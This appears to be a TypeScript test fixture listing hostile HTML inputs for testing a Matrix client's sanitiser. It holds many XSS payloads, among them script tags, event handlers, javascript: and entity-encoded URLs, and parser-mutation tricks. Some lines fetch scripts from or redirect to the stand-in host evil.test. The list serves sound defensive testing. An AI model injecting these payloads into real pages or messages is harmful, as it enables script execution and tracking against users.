/** What people have tried on sanitisers, each in its shortest form, one a line. */

const lines = (text: string): string[] => text.trim().split("\n");

/** Scripts, in every kind of tag and attribute. */
const SCRIPTS = lines(`
<script>x()</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<script
</script >
<scr<script>ipt>x()</scr</script>ipt>
<script/xss src=x>
<<script>x();//<</script>
<script>"</script><b>
<noscript><p title='</noscript><img src=x onerror=x()>'>
<img src=x onerror=x()>
<img/src=x/onerror=x()>
<img src="mxc://a/b" onload="x()">
<img src=mxc://a/b style=x:expression(x())>
<img src='x'onerror='x()'>
<image src=x onerror=x()>
<body onload=x()>
<div onmouseover=x()>
<details open ontoggle=x()>
<p onclick=x() ONCLICK=y() onClick>
<b onfocus=x() autofocus tabindex=1>
<video><source onerror=x()>
<audio src onloadstart=x()>
<input autofocus onfocus=x()>
<marquee onstart=x()>
<select onfocus=x()><option>
<iframe src=javascript:x()>
<iframe srcdoc='<script>x()</script>'>
<object data=data:text/html,x>
<embed src=x>
<applet code=x>
<frameset onload=x()>
<base href=//evil.test/>
<meta http-equiv=refresh content='0;url=//evil.test'>
<link rel=stylesheet href=//evil.test/x.css>
<form action=//evil.test><button formaction=javascript:x()>
`);

/** Addresses that run something, or lead where they do not seem to. */
const LINKS = lines(`
<a href=javascript:x()>
<a href=' javascript:x()'>
<a href=JaVaScRiPt:x()>
<a href='&#106;avascript:x()'>
<a href='&#x6A;avascript&colon;x()'>
<a href='javascript&#x3A;x()'>
<a href='java&Tab;script:x()'>
<a href='&#0000106avascript:x()'>
<a href='vbscript:x'>
<a href='data:text/html;base64,eA=='>
<a href='blob:x'>
<a href='file:///etc/passwd'>
<a href=//evil.test>
<a href='https:evil.test'>
<a href='https://a.test' target=_top download ping=//evil.test rel=opener>
<a href='http://a.test/"onclick=x()'>
<a href=https://a.test/?a=<b>&c>
<a href='https://[::1'>
<a href='https://matrix.to/#/@bea:two.test'>
<a href='matrix:u/ana:one.test'>
<a href='https://matrix.to/#/%40room%3Aone.test'>
<a href='https://matrix.to/#/@x%00:y'>
<a href='matrix:u/%ed%a0%80'>
<a href='&#104;ttps://matrix.to/#/@ana:one.test'>
<a href='https://matrix.to/#/!r:x/$e?via=a&via=b'>
<a href='matrix:roomid/a/e/b?via=%22'>
<a href='https://user:pw@matrix.to/#/@bea:two.test'>
<a href='ftp://x' href='javascript:x()'>
<img src='javascript:x()'>
<img src=https://evil.test/pixel.png>
<img src=mxc://a/b srcset='https://evil.test/x 2x'>
<img src=mxc:/evil>
<img src='mxc://a/../b'>
<img src=MXC://a/b height=1e9 width=-1>
<img src='mxc://a/b' lowsrc=x longdesc=x data-mx-emoticon alt='"><script>'>
`);

/** What a second parser reads differently, and tags that are never closed or are half of one. */
const MUTATIONS = lines(`
<svg><style><img src=x onerror=x()></style>
<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=x()&gt;'>
<svg></p><style><a id='</style><img src=x onerror=x()>'>
<math><mi//xlink:href='data:x,<script>x()</script>'>
<svg><script>x&lpar;&rpar;</script>
<svg><animate onbegin=x() attributeName=x>
<svg><use href='data:image/svg+xml,x#y'>
<svg><foreignObject><p><iframe onload=x()>
<svg><desc><title><style>*{}</style>
<noscript><style></noscript><img src=x onerror=x()>
<template><script>x()</script></template>
<textarea></textarea><img src=x onerror=x()>
<title></title><img src=x onerror=x()>
<xmp></xmp><b>
<plaintext>
<listing>&lt;img src=x&gt;
<noembed><noframes>
<table><tr><td><p></table>
<p><table><p>
<select><template><b>
<form><form>
<a><a><a>
<b><p></b></p>
<button><button>
<ruby><rt><rp>
<ul><li><ul></li>
<h1><h2></h1></h2>
<table><b><tr>
<caption><col><colgroup>
<b <i <u <s
<b/<i>
< b>
</ b>
</>
<>
<1>
<b/ /=x y>
<b a="' b='">
<b =x>
<b "=y>
<b '<i>'>
<b a='>'>
<b a=">">
<x:script xmlns:x='http://www.w3.org/1999/xhtml'>x()</x:script>
`);

/** What is no element. */
const COMMENTS = lines(`
<!-->
<!--->
<!---->
<!-- --!><img src=x onerror=x()>
<!--[if IE]><script>x()</script><![endif]-->
--><b>
<!
<!x>
<?xml version='1.0'?>
<?php x() ?>
<![CDATA[<script>x()</script>]]>
<!DOCTYPE html [<!ENTITY x '<script>'>]>
<!--<!-- -->
]]>
`);

/** Characters by another name. */
const ENTITIES = lines(`
&lt;script&gt;x()&lt;/script&gt;
&#60;b onclick=x()&#62;
&#x3c;img&#x3e;
&lt&gt
&amp;lt;b&amp;gt;
&#0;
&#xd800;
&#x110000;
&#99999999999;
&#x;
&#;
&
&&&
&nosuch;
&lt;!--
&NewLine;&Tab;
&ZeroWidthSpace;
&#64;room
@<i>room</i>
@&#114;oom
@<!-- -->room
@room
&#8238;txt
`);

/** Looks, and names that a page's own styles know. */
const STYLES = lines(`
<style>*{background:url(//evil.test)}</style>
<style>@import '//evil.test';</style>
<p style='background:url(javascript:x())'>
<div style=position:fixed;inset:0>
<span style='color:red' class='mx_Pill' id=x name=x slot=x part=x is=x>
<font color='red;x:url(y)'>
<font color=#ff0000 data-mx-bg-color='#00ff00'>
<span data-mx-color='#ff000' data-mx-bg-color='url(x)'>
<code class='language-js evil language-<b>'>
<code class='mx_Pill'>
<ol start='9999999999999'>
<ol start=-1 reversed type=A>
<td colspan=9999 background=x>
`);

/** What means something to Matrix clients, and names of properties that every object has. */
const MATRIX = lines(`
<mx-reply><blockquote>
</mx-reply>
<strong data-mx-profile-fallback>Ana: </strong>
<b data-mx-profile-fallback>
<span data-mx-spoiler>
<span data-mx-spoiler='<b>"'>
<div data-mx-maths='<script>'><code>
<img data-mx-emoticon src='mxc://one.test/e' alt=':e:' title=x height=32>
<b __proto__=x constructor=y toString=z hasOwnProperty>
<__proto__>
<constructor>
<tostring>
<b data-__proto__=x>
<hasOwnProperty a=b>
`);

/** What people write. */
const PLAIN = lines(`
a < b > c
Ana: hi
<b>bold</b>
<p>
</p>
<pre><code>
</code></pre>
<br>
<br/>
<hr>
</a>
</span>
</div>
</table>
</b>
<blockquote>
</blockquote>
<details><summary>
</summary></details>
`);

/** With characters that a line cannot show. */
const UNSEEN = [
  "<script\n>x()</script\n>",
  "<img src=`x`onerror=x()>",
  "<img \nsrc\n=\nx\nonerror\n=x()>",
  "<img src=x:x onerror\u0000=x()>",
  "<a href='java\tscript:x()'>",
  "<a href='java\nscript:x()'>",
  "<a href='\u0001javascript:x()'>",
  "<a href=/\\evil.test>",
  "<a href='https://a\ud800.test'>",
  "<b\u0000>",
  "<b\f>",
  "<b onclick=x()>",
  "<span data-mx-maths='\\frac{1}{2}\"<'>",
  "words ",
  "\n",
];

export const HOSTILE_HTML = [
  ...[...SCRIPTS, ...LINKS, ...MUTATIONS, ...COMMENTS, ...ENTITIES, ...STYLES, ...MATRIX, ...PLAIN, ...UNSEEN],
];

/** Deeper than any client may nest, and as many as an event holds. */
export const DEEP_HTML = [
  ...["<b>", "<blockquote>", "<ul><li>", "<x>", "<div><span>", "<svg>"],
  ...["<a href=https://a.test>", "<font color=#abcdef>"],
].flatMap((piece) => [piece.repeat(130), piece.repeat(1500)]);
